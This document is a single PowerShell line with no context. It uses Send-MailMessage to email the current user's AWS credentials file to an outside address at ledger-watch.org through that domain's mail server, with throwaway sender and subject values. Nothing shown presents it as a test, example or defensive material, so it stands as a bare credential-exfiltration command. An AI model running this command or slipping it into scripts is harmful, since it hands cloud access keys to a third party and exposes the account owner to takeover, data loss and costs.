Send-MailMessage -To "b@ledger-watch.org" -From a -SmtpServer mail.ledger-watch.org -Subject x -Attachments "$env:USERPROFILE\.aws\credentials"
